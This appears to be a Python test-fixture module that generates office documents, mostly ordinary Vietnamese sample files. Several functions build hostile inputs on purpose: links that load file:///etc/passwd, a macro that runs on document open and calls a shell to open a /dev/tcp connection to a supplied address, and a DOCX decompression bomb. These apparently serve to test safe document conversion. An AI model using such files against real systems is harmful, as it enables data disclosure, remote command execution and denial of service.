"""Office files of every kind, made by LibreOffice from texts of ours, and by hand."""

import io
import pathlib
import struct
import subprocess
import zipfile
import zlib

NAMES = ('xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
         'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
         'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0" xmlns:fo="urn:oasis:names:tc:opendocument:xmlns:xsl-fo-compatible:1.0" '
         'xmlns:svg="urn:oasis:names:tc:opendocument:xmlns:svg-compatible:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
         'xmlns:presentation="urn:oasis:names:tc:opendocument:xmlns:presentation:1.0" xmlns:anim="urn:oasis:names:tc:opendocument:xmlns:animation:1.0" '
         'xmlns:smil="urn:oasis:names:tc:opendocument:xmlns:smil-compatible:1.0" xmlns:script="urn:oasis:names:tc:opendocument:xmlns:script:1.0" '
         'xmlns:ooo="http://openoffice.org/2004/office" xmlns:of="urn:oasis:names:tc:opendocument:xmlns:of:1.2" '
         'xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" office:version="1.3"')

# Every vowel with every tone.
LETTERS = " ".join("aàáảãạ ăằắẳẵặ âầấẩẫậ eèéẻẽẹ êềếểễệ iìíỉĩị oòóỏõọ ôồốổỗộ ơờớởỡợ uùúủũụ ưừứửữự yỳýỷỹỵ dđ".split())
SENTENCE = "Ủy ban nhân dân tỉnh yêu cầu các sở, ban, ngành khẩn trương thực hiện nhiệm vụ phòng, chống bão lũ."


def flat(kind: str, body: str, styles="", scripts="") -> str:
    return (f'<?xml version="1.0" encoding="UTF-8"?><office:document {NAMES} '
            f'office:mimetype="application/vnd.oasis.opendocument.{kind}">{scripts}'
            f'<office:automatic-styles>{styles}</office:automatic-styles><office:body>'
            f'<office:{kind}>{body}</office:{kind}></office:body></office:document>')


def paragraph(text: str, style="") -> str:
    return f'<text:p{f" text:style-name={chr(34)}{style}{chr(34)}" if style else ""}>{text}</text:p>'


def text_source(pages=2) -> str:
    """A page with all letters, then pages of sentences."""
    breaks = ('<style:style style:name="new" style:family="paragraph"><style:paragraph-properties fo:break-before="page"/>'
              '</style:style>')
    body = paragraph("TRANG MỘT") + paragraph(LETTERS) + paragraph(LETTERS.upper())
    for number in range(2, pages + 1):
        body += paragraph(f"Trang số {number}", "new") + paragraph(SENTENCE) * 5
    body += ('<table:table table:name="b"><table:table-column/><table:table-column/>' + "".join(
        f'<table:table-row><table:table-cell>{paragraph(f"Đơn vị {row}")}</table:table-cell>'
        f'<table:table-cell>{paragraph(f"{row * 37} hộ")}</table:table-cell></table:table-row>' for row in range(1, 6)) + "</table:table>")
    return flat("text", body, breaks)


def sheet_source(rows=12, columns=4) -> str:
    """Numbers, and a formula that LibreOffice has to work out."""
    def cell(text):
        return f'<table:table-cell office:value-type="string">{paragraph(text)}</table:table-cell>'
    lines = "<table:table-row>" + "".join(cell(f"Chỉ tiêu {column}") for column in range(columns)) + "</table:table-row>"
    for row in range(rows):
        lines += "<table:table-row>" + cell(f"Xã số {row}") + "".join(
            f'<table:table-cell office:value-type="float" office:value="{row * 100 + column}"/>' for column in range(1, columns))
        lines += "</table:table-row>"
    lines += ("<table:table-row>" + cell("Tổng cộng") + '<table:table-cell office:value-type="float" office:value="0" '
              f'table:formula="of:=SUM([.B2:.B{rows + 1}])"/></table:table-row>')
    return flat("spreadsheet", f'<table:table table:name="Bảng tổng hợp">{lines}</table:table>')


def slide_source(slides=3) -> str:
    """Each slide with a title that comes by an animation."""
    body = ""
    for number in range(1, slides + 1):
        body += (
            f'<draw:page draw:name="s{number}"><draw:frame draw:id="id{number}" svg:x="2cm" svg:y="3cm" svg:width="20cm" svg:height="4cm">'
            f'<draw:text-box>{paragraph(f"Kết quả quý {number}")}</draw:text-box></draw:frame>'
            '<anim:par presentation:node-type="timing-root"><anim:seq presentation:node-type="main-sequence"><anim:par smil:begin="next">'
            '<anim:par smil:begin="0s"><anim:par smil:begin="0s" presentation:node-type="on-click" presentation:preset-class="entrance" '
            f'presentation:preset-id="ooo-entrance-appear"><anim:set smil:begin="0s" smil:dur="0.001s" smil:fill="hold" smil:targetElement="id{number}" '
            'anim:sub-item="text" smil:attributeName="visibility" smil:to="visible"/></anim:par></anim:par></anim:par></anim:seq></anim:par></draw:page>')
    return flat("presentation", body)


def by_hand(body: str, **pictures: bytes) -> bytes:
    """An ODT that no program has seen; pictures by the first part of their names."""
    content = flat("text", body).replace("<office:document ", "<office:document-content ", 1).replace(
        "</office:document>", "</office:document-content>").replace(' office:mimetype="application/vnd.oasis.opendocument.text"', "")
    kind = "application/vnd.oasis.opendocument.text"
    names = {f"Pictures/{name}.jpg": data for name, data in pictures.items()}
    manifest = (f'<?xml version="1.0"?><manifest:manifest {NAMES.split("office:version")[0]} manifest:version="1.3">'
                f'<manifest:file-entry manifest:full-path="/" manifest:media-type="{kind}"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/>' + "".join(
                    f'<manifest:file-entry manifest:full-path="{name}" manifest:media-type="image/jpeg"/>' for name in names)
                + "</manifest:manifest>")
    return zipped({"mimetype": kind.encode(), "content.xml": content.encode(), "META-INF/manifest.xml": manifest.encode()} | names)


def with_photograph(photo: bytes) -> bytes:
    return by_hand(paragraph("Ảnh hiện trường") + (
        '<text:p><draw:frame text:anchor-type="as-char" svg:width="16cm" svg:height="12cm"><draw:image xlink:type="simple" '
        'xlink:href="Pictures/anh.jpg"/></draw:frame></text:p>'), anh=photo)


def linked(address: str) -> bytes:
    """What loads from elsewhere: pictures, sections, an object."""
    frame = ('<draw:frame text:anchor-type="as-char" svg:width="5cm" svg:height="5cm"><draw:image xlink:type="simple" '
             'xlink:show="embed" xlink:actuate="onLoad" xlink:href="{}"/></draw:frame>')
    section = '<text:section text:name="{}"><text:section-source xlink:type="simple" xlink:href="{}"/><text:p>cũ</text:p></text:section>'
    return by_hand(paragraph("Tài liệu có liên kết ngoài") + paragraph(frame.format(f"{address}/anh.png"))
                + paragraph(frame.format("file:///etc/passwd")) + section.format("a", "file:///etc/passwd")
                + section.format("b", f"{address}/muc.txt")
                + f'<text:p><draw:frame svg:width="5cm" svg:height="5cm"><draw:object xlink:href="{address}/o.odt" xlink:type="simple"/></draw:frame></text:p>')


def macro_source(address: str) -> str:
    """A macro bound to the opening of the document, which writes a file and asks a server."""
    script = ('<office:scripts><office:script script:language="ooo:Basic"><ooo:libraries><ooo:library-embedded ooo:name="Standard">'
              '<ooo:module ooo:name="M"><ooo:source-code>Sub Run\nOpen "/tmp/out/paper.pdf" For Output As #1\nPrint #1, "MACRO"\nClose #1\n'
              'ThisComponent.Text.setString("MACRO DA CHAY")\n'
              f'Shell("/bin/sh", 0, "-c \'echo x > /dev/tcp/{address}\'")\nEnd Sub</ooo:source-code></ooo:module></ooo:library-embedded>'
              '</ooo:libraries></office:script><office:event-listeners><script:event-listener script:language="ooo:script" '
              'script:event-name="dom:load" xlink:type="simple" xlink:href="vnd.sun.star.script:Standard.M.Run?language=Basic&amp;location=document"/>'
              '</office:event-listeners></office:scripts>')
    return flat("text", paragraph("Văn bản có macro"), scripts=script)


def by_libreoffice(folder: pathlib.Path, sources: dict[str, str], target: str) -> dict[str, bytes]:
    """Sources by their names, as LibreOffice writes them in another format."""
    folder.mkdir(parents=True, exist_ok=True)
    for name, text in sources.items():
        (folder / name).write_text(text, encoding="utf-8")
    subprocess.run(["soffice", "--headless", f"-env:UserInstallation=file://{folder}/profile", "--convert-to", target, "--outdir",
                    str(folder / "made"), *[str(folder / name) for name in sources]], check=True, capture_output=True, timeout=600)
    ending = target.split(":")[0]
    return {pathlib.Path(name).stem: (folder / "made" / f"{pathlib.Path(name).stem}.{ending}").read_bytes() for name in sources}


def zipped(files: dict[str, bytes], plain=("mimetype",)) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in files.items():
            archive.writestr(name, data, zipfile.ZIP_STORED if name in plain else zipfile.ZIP_DEFLATED)
    return out.getvalue()


def with_parts(archive: bytes, **parts) -> bytes:
    """An archive with some of its parts replaced, or added; names as `word__document.xml`."""
    with zipfile.ZipFile(io.BytesIO(archive)) as old:
        files = {name: old.read(name) for name in old.namelist()}
    return zipped(files | parts.pop("parts", {}) | parts)


def bomb() -> bytes:
    """A word document of 1 MB whose text unpacks to 1.2 GB: one piece of DEFLATE again and again (RFC 1951 §3.2.4)."""
    block, count = b" " * (1 << 20), 1200
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    piece = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    data = piece * count + packer.flush()
    check = 0
    for _ in range(count):
        check = zlib.crc32(block, check)
    types = b"<Types/>"
    local = directory = b""
    for name, method, packed, check, size in [(b"[Content_Types].xml", 0, types, zlib.crc32(types), len(types)),
                                              (b"word/document.xml", 8, data, check, len(block) * count)]:
        facts = struct.pack("<HHHHHIII", 20, 0, method, 0, 0, check, len(packed), size)
        directory += b"PK\1\2" + struct.pack("<H", 20) + facts + struct.pack("<HHHHHII", len(name), 0, 0, 0, 0, 0, len(local)) + name
        local += b"PK\3\4" + facts + struct.pack("<HH", len(name), 0) + name + packed
    return local + directory + b"PK\5\6" + struct.pack("<HHHHIIH", 0, 0, 2, 2, len(directory), len(local), 0)


def encrypted_compound() -> bytes:
    """The outside of a DOCX with a password ([MS-OFFCRYPTO] §2.3.4): a compound file with its two streams."""
    def entry(name, kind, child=0xFFFFFFFF, right=0xFFFFFFFF, size=0):
        text = name.encode("utf-16-le") + b"\0\0" if name else b""
        return (text.ljust(64, b"\0") + struct.pack("<HBB", len(text), kind, 1) + struct.pack("<III", 0xFFFFFFFF, right, child)
                + b"\0" * 36 + struct.pack("<IQ", 0xFFFFFFFE, size))
    header = (bytes.fromhex("d0cf11e0a1b11ae1") + b"\0" * 16 + struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6) + b"\0" * 6
              + struct.pack("<IIIIIIIII", 0, 1, 1, 0, 4096, 0xFFFFFFFE, 0, 0xFFFFFFFE, 0) + struct.pack("<I", 0))
    header = header.ljust(512, b"\xff")
    table = struct.pack("<II", 0xFFFFFFFD, 0xFFFFFFFE).ljust(512, b"\xff")
    names = entry("Root Entry", 5, child=1) + entry("EncryptionInfo", 2, right=2) + entry("EncryptedPackage", 2) + b"\0" * 128
    return header + table + names


def encrypted_odt(plain: bytes) -> bytes:
    """An ODT whose text is said to be encrypted (OpenDocument 1.3 part 2 §3.4)."""
    manifest = ('<?xml version="1.0"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3">'
                '<manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/>'
                '<manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml" manifest:size="100">'
                '<manifest:encryption-data manifest:checksum-type="SHA256" manifest:checksum="AAAA"/></manifest:file-entry></manifest:manifest>')
    return with_parts(plain, parts={"META-INF/manifest.xml": manifest.encode(), "content.xml": bytes(range(256)) * 4})
